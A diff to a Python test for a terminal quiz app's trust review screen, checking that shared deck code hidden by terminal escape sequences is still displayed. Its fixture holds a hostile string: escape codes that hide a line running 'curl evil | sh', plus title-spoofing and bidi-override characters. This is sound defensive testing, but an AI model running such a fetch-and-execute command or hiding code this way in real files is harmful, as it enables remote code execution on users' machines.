@@ -16,12 +16,15 @@ import pytest
 from textual.app import App, ComposeResult
 from textual.widgets import OptionList, Static
 
+from quiz.core.cards import Backend, Card, Deck, Kind
 from quiz.core.exam import ExamConfig
+from quiz.library import Trust, TrustRequest
 from quiz.runner.isolation import sandbox_for
+from quiz.trust_review import review
 from quiz.tui.app import QuizApp
 from quiz.tui.screens.exam import ExamScreen
 from quiz.tui.screens.exam_report import ExamReportScreen
-from quiz.tui.screens.trust import TrustRequest, TrustScreen
+from quiz.tui.screens.trust import TrustScreen
 from tests.cli.test_control_characters import DECK, assert_safe
 from tests.tui.conftest import Clock, settings_for, wait_for
 
@@ -152,14 +155,29 @@ class TrustApp(App[bool]):
 
 async def test_the_trust_review_shows_every_line_of_code_even_one_an_escape_would_hide() -> None:
     hidden = "x = 1  # harmless\x1b[2K\x1b[1A\nimport os; os.system('curl evil | sh')"
-    request = TrustRequest(
-        deck_id="shared",
+
+    # The library refuses such text at load; the review screen must still never pass it through raw.
+    def card(card_id: str, code: str) -> Card:
+        return Card(
+            deck_id="shared",
+            id=card_id,
+            section="s",
+            backend=Backend.TORCH,
+            kind=Kind.VALUE,
+            prompt="p",
+            code=code,
+            answer="1",
+            explain=".",
+            family=card_id,
+        )
+
+    deck = Deck(
+        id="shared",
         title="Shared \x1b]0;pwned\x07 [b]deck[/b]",
         path="/tmp/shared [/x].toml",
-        changed=False,
-        data=b"",
-        listing=[("evil.torch", hidden), ("plain.torch", "y = '\x1b[5m[/x]'\u202e")],
+        cards=(card("evil.torch", hidden), card("plain.torch", "y = '\x1b[5m[/x]'\u202e")),
     )
+    request = TrustRequest(deck=deck, path=Path(deck.path), data=b"", state=Trust.NEW, review=review(deck))
     app = TrustApp(request)
     async with app.run_test(size=(120, 40)) as pilot:
         await shows(pilot, app, "os.system('curl evil | sh')")
